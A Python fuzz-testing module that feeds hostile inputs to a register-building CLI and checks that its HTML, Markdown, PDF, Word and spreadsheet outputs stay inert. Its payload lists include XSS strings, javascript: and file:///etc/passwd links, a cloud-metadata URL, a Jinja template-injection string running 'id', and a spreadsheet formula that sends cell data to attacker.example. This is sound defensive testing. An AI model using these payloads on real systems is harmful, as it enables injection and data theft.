"""Hostile registers and the checks every output must pass, shared by the bounded tests and ``make fuzz``.

A register is mutated (values replaced by payloads or by values of the wrong
kind, keys dropped or invented, lists repeated) and run through every command;
the only outcomes allowed are success and located problems with exit 1. What
is built is then parsed, not searched: HTML with a parser, Markdown rendered,
the PDF's attachments and link annotations read back.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import random
import re
import shutil
import signal
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import markdown
import yaml
from click.testing import CliRunner
from pypdf import PdfReader

from registry.cli import cli

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><link rel=attachment href=%2e%2e/%2e%2e/%2e%2e/etc/passwd><style>",
    "x\"; } section.fiche { display: none } a { content: \"",
    "[clic](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [f](file:///etc/passwd)",
    "![pixel](http://169.254.169.254/latest/meta-data) <http://10.0.0.1/>",
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% raw %}",
    "\\\\A0 \\\" url(file:///etc/passwd) @import 'http://attacker.example/x.css';",
    "a" * 3000,
    "zero\u200bwidth\u200djoiner\ufeff",
    "ligne\rretour\u2028séparateur",
    "&lt;script&gt; &amp; &#60;script&#62;",
    '=HYPERLINK("http://attacker.example/?"&A1,"clic")',
]
"""Hostile texts: markup, URLs, CSS, Jinja, very long words, invisible and line-breaking characters."""

SAFE_LINK = re.compile(r"^(https?://|mailto:|#|\.\./register(\.\w\w)?\.html(#|$)|notices/index(\.\w\w)?\.html$"
                       r"|[\w.-]+\.html$)")
"""Links the outputs may hold: the web, mail, and their own pages."""
FORBIDDEN_TAGS = {"script", "img", "iframe", "object", "embed", "link", "base", "form", "svg", "math", "button",
                  "textarea", "select"}


FLOW_PICTURE = {"class", "role", "aria-labelledby", "width", "height", "viewbox", "style", "font-family", "font-size"}
"""The attributes of a fiche's flow picture, the one ``<svg>`` the tool draws itself (registry/render/pictures)."""
FLOW_STYLE = re.compile(r"width:100%;max-width:[0-9.]+px;height:auto")


def _flow_picture(tag: str, attrs: dict[str, str]) -> bool:
    """Whether an element is the tool's flow picture: nothing in it can run, fetch or restyle the page."""
    return (tag == "svg" and attrs.get("class") == "flow" and set(attrs) <= FLOW_PICTURE
            and FLOW_STYLE.fullmatch(attrs.get("style", "")) is not None)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))
        self._in_style = tag == "style"
        if self._in_style:
            self.styles.append("")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles[-1] += data


def html_faults(html: str, *, page: bool, own_script: bool = False) -> list[str]:
    """What in a page (or fragment) could run, fetch or restyle: nothing, or the reasons.

    ``own_script``: the page (the snippet gallery) may run one script of ours, pinned by its hash in
    the Content-Security-Policy, and have copy buttons.
    """
    parsed = _Page()
    parsed.feed(html)
    allowed = {"script", "button"} if own_script else set()
    faults = [f"<{tag}>" for tag, attrs in parsed.tags if tag in FORBIDDEN_TAGS - allowed
              and not _flow_picture(tag, attrs)]
    if own_script:
        scripts = re.findall(r"<script>(.*?)</script>", html, re.S)
        pinned = re.search(r"script-src '(sha256-[^']+)'", html)
        digest = "sha256-" + base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode() if scripts else ""
        if len(scripts) != 1 or not pinned or pinned.group(1) != digest:
            faults.append("a script not pinned by the page's policy")
        faults += [f"button {attrs}" for tag, attrs in parsed.tags
                   if tag == "button" and set(attrs) - {"type", "data-copy", "data-as"}]
    for tag, attrs in parsed.tags:
        faults += [f"{tag} {name}=" for name in attrs if name.startswith("on")]
        if tag == "input" and (attrs.get("type") != "checkbox" or set(attrs) - {"type", "name"}):
            faults.append(f"input {attrs}")
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if name in attrs and not SAFE_LINK.match(attrs[name]):
                faults.append(f"{tag} {name}={attrs[name][:40]}")
        if "style" in attrs and not _flow_picture(tag, attrs):
            faults.append(f"{tag} style=")
    if page and len(parsed.styles) != 1:
        faults.append(f"{len(parsed.styles)} <style> elements")
    for style in parsed.styles:
        if any(word in style for word in ("url(", "@import", "passwd", "attacker", "alert", "\\\\A0")):
            faults.append("register text in the stylesheet")
    return faults


def pdf_faults(content: bytes) -> list[str]:
    reader = PdfReader(io.BytesIO(content))
    faults = [f"attachment {name}" for name in reader.attachments]
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            action = annotation.get_object().get("/A")
            uri = str(action.get_object().get("/URI", "")) if action else ""
            if uri and not SAFE_LINK.match(uri):
                faults.append(f"link to {uri[:40]}")
    return faults


def docx_faults(content: bytes) -> list[str]:
    """A Word file's links: only to the web or mail, as in every other format."""
    document = docx.Document(io.BytesIO(content))
    return [f"link to {rel.target_ref[:40]}" for rel in document.part.rels.values()
            if rel.reltype.endswith("/hyperlink") and not SAFE_LINK.match(rel.target_ref)]


def output_faults(folder: Path) -> list[str]:
    """Every fault of every file a command wrote into ``folder``."""
    faults = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        if path.suffix == ".html":
            gallery = path.parent.name == "notices" and not path.name.startswith("index")
            faults += [f"{path.name}: {f}" for f in html_faults(path.read_text(encoding="utf-8"),
                                                               page=path.name.startswith("register")
                                                               or path.parent.name == "activities" or gallery,
                                                               own_script=gallery)]
        elif path.suffix == ".md":
            faults += [f"{path.name}: {f}" for f in html_faults(markdown.markdown(path.read_text(encoding="utf-8")),
                                                               page=False)]
        elif path.suffix == ".pdf":
            faults += [f"{path.name}: {f}" for f in pdf_faults(path.read_bytes())]
        elif path.suffix == ".docx":
            faults += [f"{path.name}: {f}" for f in docx_faults(path.read_bytes())]
        elif path.suffix == ".txt" and re.search("[\x00-\x08\x0b-\x1f\x7f]", path.read_text(encoding="utf-8")):
            faults.append(f"{path.name}: control character")
        elif path.suffix in (".xlsx", ".ods", ".csv"):
            faults += [f"{path.name}: {f}" for f in spreadsheet_faults(path)]
    return faults


def spreadsheet_faults(path: Path) -> list[str]:
    """An export that a spreadsheet would evaluate: a formula cell, or a CSV field starting like one."""
    if path.suffix == ".csv":
        fields = [f for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for f in row]
        return [f"formula field {f[:40]!r}" for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]
    with zipfile.ZipFile(path) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/") or n == "content.xml"]
        return [f"formula in {n}" for n in parts if re.search(rb"<f[ >]|table:formula=", archive.read(n))]


def files_of(root: Path) -> list[Path]:
    return [root / "registry.yaml", *sorted((root / "activities").glob("*.yaml"))]


def leaves(data: Any, loc: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every value with its path, containers included."""
    yield loc, data
    if isinstance(data, dict):
        for key, value in data.items():
            yield from leaves(value, (*loc, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from leaves(value, (*loc, index))


def replace(data: Any, loc: tuple[Any, ...], value: Any) -> None:
    for part in loc[:-1]:
        data = data[part]
    data[loc[-1]] = value


def mutate(data: Any, rng: random.Random) -> None:
    """One random change of a parsed file."""
    places = list(leaves(data))[1:]
    loc, old = rng.choice(places)
    parent: Any = data
    for part in loc[:-1]:
        parent = parent[part]
    action = rng.randrange(6)
    if action == 0 or isinstance(old, str):
        replace(data, loc, rng.choice(PAYLOADS) if rng.random() < 0.7 else rng.choice([None, 0, True, [], {}]))
    elif action == 1 and isinstance(parent, dict):
        del parent[loc[-1]]
    elif action == 2 and isinstance(old, list) and old:
        old.extend(old[: rng.randint(1, 3)])
    elif action == 3 and isinstance(old, dict):
        old[rng.choice(["extra", "bassis", "<b>", "id"])] = rng.choice(PAYLOADS)
    else:
        replace(data, loc, rng.choice([None, -1, 3.5, "", "P3Y", "US", "2025-13-45", ["x"], {"fr": "x"}]))


def mutated_register(source: Path, target: Path, rng: random.Random, changes: int) -> None:
    """A copy of ``source`` with ``changes`` random mutations spread over its files."""
    shutil.copytree(source, target)
    files = files_of(target)
    for _ in range(changes):
        path = rng.choice(files)
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        mutate(data, rng)
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def run_everything(root: Path, out: Path, pdf: bool, exports: bool = True) -> list[str]:
    """Every command on a register: each exits 0 or 1 with located problems, and what it writes is safe."""
    runner = CliRunner()
    faults = []
    located = re.compile(r"^\S.*:\d+:\d+: (error|warning|info): [A-Z][A-Z0-9]*\d{3} ")
    commands = [
        ["validate", root], ["check", root], ["check", root, "--format", "github"],
        ["build", root, "--format", "html,pdf" if pdf else "html", "--out", out / "register"],
        *(["notice", root, "--format", fmt, "--draft", "--out", out / f"notices-{fmt}"]
          for fmt in ("md", "html", "txt", "docx", *(["pdf"] if pdf else []))),
        ["notice", root, "--policy", "--draft", "--format", "html", "--out", out / "policy"],
        ["notice", root, "--policy", "--draft", "--format", "html", "--page", "--out", out / "policy-page"],
        *(["export", root, "--format", fmt, "--out", out / f"export.{fmt}"]
          for fmt in (("xlsx", "ods", "csv", "json", "jsonld") if exports else ())),
    ]
    for args in commands:
        result = runner.invoke(cli, [str(a) for a in args])
        name = " ".join(str(a) for a in args[:1] + args[2:])
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            faults.append(f"{name}: {type(result.exception).__name__}: {result.exception}")
        elif result.exit_code not in (0, 1):
            faults.append(f"{name}: exit {result.exit_code}")
        elif result.exit_code == 1:
            lines = [line for line in result.output.splitlines() if line and not re.match(
                r"^(\d+ (error|warning|info)s?(, )?)+ found$|^the notice is incomplete|^::|^error: ", line)]
            faults += [f"{name}: unlocated line {line[:80]!r}" for line in lines if not located.match(line)]
    return faults + output_faults(out)


SHEET_PAYLOADS = [*PAYLOADS, "=HYPERLINK(\"http://attacker.example\")", "+1+1", "@SUM(A1)", "-2+3", "\ttab",
                  "Nom\nstatus: retired\nwaivers:", "Inde — Pays adéquat", "le 3 mars 2022", "31/02/2023", "P3Y",
                  "5 ans", "", " ", "\u0000nul", "\ufffe", "x" * 40_000]
"""Payloads for cells and sheet names: formulas, YAML written into a name, dates and periods in words."""


def mutated_workbook(source: bytes, rng: random.Random, changes: int) -> bytes:
    """An xlsx exported by the tool with cells, sheet names and rows changed at random (openpyxl)."""
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, MergedCell

    book = openpyxl.load_workbook(io.BytesIO(source))
    for _ in range(changes):
        sheet = rng.choice(book.worksheets)
        action = rng.randrange(5)
        if action == 0:
            sheet.title = rng.choice(["Fiche\n1", "a" * 31, "Note - vérifier", "Feuil'1", "Liste", "x" + str(rng.random())])[:31]
        elif action == 1 and sheet.max_row > 2:
            sheet.delete_rows(rng.randint(1, sheet.max_row), rng.randint(1, 5))
        elif action == 2:
            sheet.insert_cols(rng.randint(1, 4))
        else:
            row, column = rng.randint(1, max(sheet.max_row, 1) + 2), rng.randint(1, max(sheet.max_column, 1) + 1)
            value: Any = rng.choice([*SHEET_PAYLOADS, 0, -1, 3.5, None, True])
            if isinstance(value, str):  # what openpyxl itself refuses to write is no test of the reader
                value = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\ufffe", "")
            cell = sheet.cell(row, column)
            if not isinstance(cell, MergedCell):
                cell.value = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def mutated_bytes(source: bytes, rng: random.Random) -> bytes:
    """A spreadsheet's zip with one of its XML members damaged: a repeat count, a huge attribute, flipped bytes."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    xml = sorted(n for n in members if n.endswith(".xml"))
    name = "content.xml" if "content.xml" in xml and rng.random() < 0.5 else rng.choice(xml)
    text = members[name]
    action = rng.randrange(4)
    if action == 0:
        text = re.sub(rb'number-(columns|rows)-repeated="\d+"', rb'number-\1-repeated="2000000000"', text, count=3)
        text = text.replace(b"<table:table-cell", b'<table:table-cell table:number-columns-repeated="1000000000"', 1)
        text = text.replace(b"<table:table-row", b'<table:table-row table:number-rows-repeated="2000000000"', 1)
    elif action == 1:
        text = text.replace(b"<row ", b'<row spans="1:16384" ', 1).replace(b'r="A1"', b'r="XFD1048576"', 1)
    elif action == 2 and text:
        position = rng.randrange(len(text))
        text = text[:position] + bytes([rng.randrange(256)]) + text[position + 1:]
    else:
        text = text[: rng.randrange(len(text) + 1)]
    members[name] = text
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return buffer.getvalue()


IMPORT_SECONDS = 20
"""An import of a spreadsheet of a few kilobytes that takes longer is expanding what it should refuse."""


class Hang(BaseException):
    """Raised by :func:`time_limit`: not an ``Exception``, so no ``except Exception`` of the tool can take it
    for a file it could not read."""


@contextmanager
def time_limit(seconds: int) -> Iterator[None]:
    """Raise :class:`Hang` in this thread after ``seconds`` (the hang becomes a fault, not a stuck run)."""
    def expire(signum: int, frame: Any) -> None:
        raise Hang

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def import_faults(spreadsheet: Path, into: Path) -> list[str]:
    """``import cnil`` on a hostile spreadsheet, then every command on what it wrote: success or located problems."""
    runner = CliRunner()
    name = f"import {spreadsheet.name}"
    try:
        with time_limit(IMPORT_SECONDS):
            result = runner.invoke(cli, ["import", "cnil", str(spreadsheet), "--into", str(into)])
    except Hang:
        return [f"{name}: still running after {IMPORT_SECONDS} s"]
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        return [f"{name}: {type(result.exception).__name__}: {result.exception}"]
    if result.exit_code not in (0, 1):
        return [f"{name}: exit {result.exit_code}"]
    faults = [f"{name}: YAML key written from a name in {path.name}" for path in into.glob("activities/*.yaml")
              if "\nwaivers:" in path.read_text(encoding="utf-8") and "waivers:" not in spreadsheet.name]
    if result.exit_code == 0 and (into / "registry.yaml").is_file():
        faults += run_everything(into, into.parent / "out", pdf=False, exports=False)
    return faults
